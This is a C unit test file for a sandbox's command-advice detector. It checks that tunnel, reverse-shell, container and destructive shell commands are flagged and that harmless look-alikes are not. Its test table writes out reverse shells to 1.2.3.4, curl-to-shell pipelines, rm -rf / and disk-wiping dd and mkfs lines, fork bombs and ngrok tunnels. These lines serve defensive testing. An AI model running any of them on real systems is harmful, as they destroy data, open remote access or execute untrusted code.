/* SPDX-License-Identifier: Apache-2.0 */
/* Advice on commands: what is found, and as much what is not. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/util.h"
#include "sandbox/workspace.h"

static const struct { const char *code, *script; } cases[] = {
	{ "tunnel", "ngrok http 80" },
	{ "tunnel", "cloudflared tunnel run" },
	{ "tunnel", "npx -y localtunnel --port 8000" },
	{ "tunnel", "ssh -R 80:localhost:3000 serveo.net" },
	{ "tunnel", "ssh -fNR 80:localhost:3000 host" },
	{ "tunnel", "ssh -o RemoteForward=1:2 host" },
	{ "tunnel", "tailscale funnel 80" },
	{ "tunnel", "cd x && /opt/bin/ngrok http 80" },
	{ NULL, "ssh host ls" },
	{ NULL, "ssh -i ~/.ssh/id -p 22 host ls -R" },
	{ NULL, "tailscale status" },
	{ NULL, "ngrok --version" },
	{ "remote_shell", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1" },
	{ "remote_shell", "exec 5<>/dev/tcp/1.2.3.4/9" },
	{ "remote_shell", "sh -i 2>&1 | nc 1.2.3.4 9 > f" },
	{ "remote_shell", "nc -e /bin/sh 1.2.3.4 9" },
	{ "remote_shell", "ncat --sh-exec bash 1.2.3.4 9" },
	{ "remote_shell", "socat TCP:1.2.3.4:9 EXEC:/bin/sh,pty" },
	{ "remote_shell", "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'" },
	{ "remote_shell", "perl -e 'use Socket;exec(\"/bin/sh\")'" },
	{ "remote_shell", "curl -s http://x/i | sh" },
	{ "remote_shell", "curl -s http://x/i | sudo bash -s -- -y" },
	{ "remote_shell", "wget -qO- http://x | tee log | bash" },
	{ "remote_shell", "bash <(curl -s http://x)" },
	{ "remote_shell", "eval \"$(curl -s http://x)\"" },
	{ "remote_shell", "sh -c \"$(wget -O- http://x)\"" },
	{ NULL, "curl -s http://x/i | jq ." },
	{ NULL, "curl -s http://x/i | sh script.sh" },
	{ NULL, "curl -s http://x/i -o f; sh" },
	{ NULL, "echo /dev/tcp/1.2.3.4/9" },
	{ NULL, "nc -z localhost 80" },
	{ NULL, "python3 -c 'import socket; print(socket.gethostname())'" },
	{ "nested", "docker run x" },
	{ "nested", "kubectl get po" },
	{ "nested", "x; docker run x" },
	{ "nested", "x&&docker run x" },
	{ "nested", "x||docker run x" },
	{ "nested", "x|docker load" },
	{ "nested", "x &docker run x" },
	{ "nested", "x\ndocker run x" },
	{ "nested", "(docker run x)" },
	{ "nested", "{ docker run x; }" },
	{ "nested", "if true; then docker run x; fi" },
	{ "nested", "for i in 1 2; do docker run $i; done" },
	{ "nested", "echo $(docker ps)" },
	{ "nested", "echo \"a $(docker ps) b\"" },
	{ "nested", "echo `docker ps`" },
	{ "nested", "echo \"`docker ps`\"" },
	{ "nested", "echo $(echo $(echo \")\" ; docker ps))" },
	{ "nested", "cat <(docker ps)" },
	{ "nested", "A=1 B=2 docker run x" },
	{ "nested", "sudo -u root env -i A=1 nohup docker run x" },
	{ "nested", "timeout -k 5 30 docker run x" },
	{ "nested", "nice -n 5 docker run x" },
	{ "nested", "exec docker run x" },
	{ "nested", "xargs -n 1 docker rm" },
	{ "nested", "env -S 'docker run x'" },
	{ "nested", "sh -c 'docker run x'" },
	{ "nested", "bash -lc \"cd /; docker run x\"" },
	{ "nested", "sh -c 'sh -c \"docker run x\"'" },
	{ "nested", "eval docker run x" },
	{ "nested", "do''cker run x" },
	{ "nested", "\"docker\" run x" },
	{ "nested", "d\\ocker run x" },
	{ "nested", "dock\\\ner run x" },
	{ "nested", "bash <<EOF\ndocker run x\nEOF" },
	{ "nested", "cat <<'E'\nx\nE\ndocker run x" },
	{ "nested", ">log 2>&1 docker run x" },
	{ "nested", "ssh host docker run x" },
	{ "nested", "true # x\ndocker run x" },
	{ NULL, "echo \"docker run\"" },
	{ NULL, "echo 'x; docker run'" },
	{ NULL, "echo docker run" },
	{ NULL, "echo x\\; docker run" },
	{ NULL, "echo '$(docker ps)'" },
	{ NULL, "echo \"\\$(docker ps)\"" },
	{ NULL, "# docker run x" },
	{ NULL, "cat <<EOF\ndocker run x\nEOF\n" },
	{ NULL, "cat <<-EOF\n\tdocker run x\n\tEOF\n" },
	{ NULL, "echo x > docker" },
	{ NULL, "docker --version" },
	{ NULL, "grep docker Makefile" },
	{ NULL, "A=docker true" },
	{ NULL, "ls docker/; npm run docker" },
	{ "destructive", "rm -rf /" },
	{ "destructive", "rm -rf / --no-preserve-root" },
	{ "destructive", "rm -r -f //" },
	{ "destructive", "rm -fr /*" },
	{ "destructive", "rm -rf ~" },
	{ "destructive", "rm -rf ~/" },
	{ "destructive", "rm -rf ~/*" },
	{ "destructive", "rm -rf $HOME" },
	{ "destructive", "rm -rf \"${HOME}\"/" },
	{ "destructive", "rm --recursive --force /etc" },
	{ "destructive", "rm -rf x /usr/" },
	{ "destructive", "rm -rf /tmp/../usr/*" },
	{ "destructive", "rm -Rf /./var" },
	{ "destructive", "find / -name x -delete" },
	{ "destructive", "chmod -R 777 /" },
	{ "destructive", "chown -R u /etc" },
	{ "destructive", "mkfs.ext4 /dev/sda" },
	{ "destructive", "dd if=/dev/zero of=/dev/sda bs=1M" },
	{ "destructive", "echo x > /dev/nvme0n1" },
	{ "destructive", "cat x | sudo tee /dev/sdb" },
	{ "destructive", ":(){ :|:& };:" },
	{ "destructive", "bomb () { bomb | bomb & }; bomb" },
	{ "destructive", "mv / /dev/null" },
	{ "destructive", "reboot" },
	{ NULL, "rm -rf ./dist" },
	{ NULL, "rm -rf dist node_modules" },
	{ NULL, "rm -rf /tmp/x" },
	{ NULL, "rm -rf /usr/local/lib/x" },
	{ NULL, "rm -rf ~/project/dist" },
	{ NULL, "rm -rf '~' '$HOME'" },
	{ NULL, "rm -rf \\~" },
	{ NULL, "rm -rf $HOMEPAGE" },
	{ NULL, "rm /" },
	{ NULL, "rm -f -- -r /tmp/x" },
	{ NULL, "dd if=/dev/zero of=out bs=1M" },
	{ NULL, "echo x > /dev/null 2> /dev/stderr" },
	{ NULL, "chmod -R u+w ." },
	{ NULL, "f() { g | h & }; f" },
	{ NULL, "echo ':(){ :|:& };:'" },
	{ NULL, "npm ci && npm run build && npm test" },
	{ NULL, "" },
	{ NULL, "((((" },
	{ NULL, "echo $(" },
	{ NULL, "echo \"" },
	{ NULL, "echo '" },
	{ NULL, "echo `" },
	{ NULL, "\\" },
	{ NULL, "cat <<" },
	{ NULL, "<<<<<<<<" },
	{ NULL, "| | && ; & >" },
};

static void scripts(void **state)
{
	int wrong = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		char *argv[] = { "sh", "-c", (char *)cases[i].script, NULL };
		struct command_advice a = workspace__advise(argv);

		if (!a.code != !cases[i].code || (a.code && strcmp(a.code, cases[i].code))) {
			wrong++;
			print_error("%s: %s, expected %s (%s)\n", cases[i].script, a.code ?: "nothing", cases[i].code ?: "nothing", a.match);
		}
		assert_true(!a.code || (a.reason && a.match[0]));
	}
	assert_int_equal(wrong, 0);
}

static void words_are_taken_as_they_are(void **state)
{
	char *docker[] = { "docker", "run", "x", NULL }, *echo[] = { "echo", "x; docker run", NULL };
	char *one[] = { "rm -rf /", NULL }, *blank[] = { "ls", "-l", NULL }, *sudo[] = { "sudo", "-n", "sh", "-c", "ngrok http 1", NULL };
	char *none[] = { NULL }, *env[] = { "env", NULL };

	(void)state;
	assert_string_equal(workspace__advise(docker).code, "nested");
	assert_string_equal(workspace__advise(docker).match, "docker run x");
	assert_null(workspace__advise(echo).code);
	assert_string_equal(workspace__advise(one).code, "destructive");
	assert_null(workspace__advise(blank).code);
	assert_string_equal(workspace__advise(sudo).code, "tunnel");
	assert_null(workspace__advise(none).code);
	assert_null(workspace__advise(env).code);
	assert_null(workspace__advise(NULL).code);
}

/* A match goes to a terminal and into JSON: no control characters, no more than there is room for. */
static void matches_are_printable_and_bounded(void **state)
{
	char script[4096] = "docker \x1b[2J\a ";
	char *argv[] = { "sh", "-c", script, NULL };
	struct command_advice a;

	(void)state;
	memset(script + strlen(script), 'x', 3000);
	a = workspace__advise(argv);
	assert_string_equal(a.code, "nested");
	assert_int_equal(strlen(a.match), sizeof(a.match) - 1);
	for (const char *c = a.match; *c; c++)
		assert_true((unsigned char)*c >= 0x20);
}

/* Nesting and length are bounded: nothing is found beyond, and it ends. */
static void deep_and_long(void **state)
{
	const size_t n = 1u << 20;
	char *s = malloc(n + 1);
	char *argv[] = { "sh", "-c", s, NULL };
	static const char *const unit[] = { "$(", "`", "(", "\"$(", "a ", ";", "eval ", "sh -c ", "<(", "<<a\n", ">", "'", "\\", "x=1 " };

	(void)state;
	assert_non_null(s);
	for (size_t u = 0; u < ARRAY_SIZE(unit); u++) {
		size_t len = strlen(unit[u]);

		for (size_t i = 0; i < n; i++)
			s[i] = unit[u][i % len];
		s[n] = 0;
		assert_null(workspace__advise(argv).code);
	}
	free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(scripts),
		cmocka_unit_test(words_are_taken_as_they_are),
		cmocka_unit_test(matches_are_printable_and_bounded),
		cmocka_unit_test(deep_and_long),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
